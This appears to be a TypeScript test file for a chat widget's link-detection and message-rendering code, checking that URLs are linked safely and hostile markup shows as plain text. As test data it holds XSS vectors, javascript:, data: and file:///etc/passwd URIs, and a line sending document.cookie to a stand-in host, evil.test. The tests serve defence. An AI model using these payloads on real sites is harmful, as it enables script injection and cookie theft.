/** @jsxImportSource preact */
import { render } from 'preact';
import { afterEach, describe, expect, it } from 'vitest';
import { linkify, safeHref } from '../../src/ui/linkify';
import { cleanup, flush, mountUI } from './setup';

afterEach(cleanup);

/** Renders linkified text into a detached element. */
function html(text: string) {
  const el = document.createElement('div');
  render(<p>{linkify(text)}</p>, el);
  return el.firstElementChild as HTMLElement;
}

describe('linkify', () => {
  it('links http, https, www, mailto, tel and bare emails', () => {
    const p = html(
      'See https://example.com/a?b=1, http://x.test or www.acme.io. Mail me@acme.io, mailto:a@b.cz or call tel:+420123456789.',
    );
    const links = Array.from(p.querySelectorAll('a')).map((a) => [
      a.textContent,
      a.getAttribute('href'),
    ]);
    expect(links).toEqual([
      ['https://example.com/a?b=1', 'https://example.com/a?b=1'],
      ['http://x.test', 'http://x.test/'],
      ['www.acme.io', 'https://www.acme.io/'],
      ['me@acme.io', 'mailto:me@acme.io'],
      ['mailto:a@b.cz', 'mailto:a@b.cz'],
      ['tel:+420123456789', 'tel:+420123456789'],
    ]);
    expect(p.textContent).toBe(
      'See https://example.com/a?b=1, http://x.test or www.acme.io. Mail me@acme.io, mailto:a@b.cz or call tel:+420123456789.',
    );
    for (const a of Array.from(p.querySelectorAll('a'))) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('keeps trailing punctuation out of the link', () => {
    const p = html('(see https://example.com/docs).');
    expect(p.querySelector('a')!.getAttribute('href')).toBe('https://example.com/docs');
    expect(p.textContent).toBe('(see https://example.com/docs).');
  });

  it('never links javascript:, data: or other schemes', () => {
    for (const text of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(document.cookie)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
    ]) {
      const p = html(text);
      expect(p.querySelector('a'), text).toBeNull();
      expect(p.textContent).toBe(text);
    }
    expect(safeHref('javascript:alert(1)')).toBeNull();
    expect(safeHref('data:text/html,x')).toBeNull();
    expect(safeHref('https://ok.test')).toBe('https://ok.test/');
  });

  it('links only the safe URL inside a hostile one', () => {
    const p = html('javascript:fetch("https://evil.test/?c="+document.cookie)');
    const a = p.querySelector('a');
    expect(a?.getAttribute('href')?.startsWith('https://evil.test/')).toBe(true);
    expect(p.textContent).toBe('javascript:fetch("https://evil.test/?c="+document.cookie)');
  });
});

describe('agent text in the chat', () => {
  it('renders markup and XSS vectors as text', async () => {
    const ui = await mountUI();
    await ui.open();
    const vectors = [
      '<img src=x onerror="window.pwned=1">',
      '<script>window.pwned=1</script>',
      '<a href="javascript:window.pwned=1">click</a>',
      '"><svg onload=window.pwned=1>',
    ];
    for (const v of vectors) ui.server.say(v, { name: 'Mallory' });
    await flush();
    const bubbles = ui.$$('.m.a .bb');
    expect(bubbles.map((b) => b.textContent)).toEqual(vectors);
    expect(ui.root.querySelectorAll('img, script, svg[onload], [onerror]')).toHaveLength(0);
    expect(ui.root.querySelectorAll('.bb a')).toHaveLength(0);
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it('links URLs in agent messages, but not in what the visitor typed', async () => {
    const ui = await mountUI();
    await ui.open();
    ui.server.say('Docs: https://example.com/help', { name: 'Eva' });
    await ui.widget.send('my site is https://mine.test');
    await flush();
    expect(ui.$<HTMLAnchorElement>('.m.a .bb a')!.href).toBe('https://example.com/help');
    expect(ui.$('.m.v .bb a')).toBeNull();
  });
});
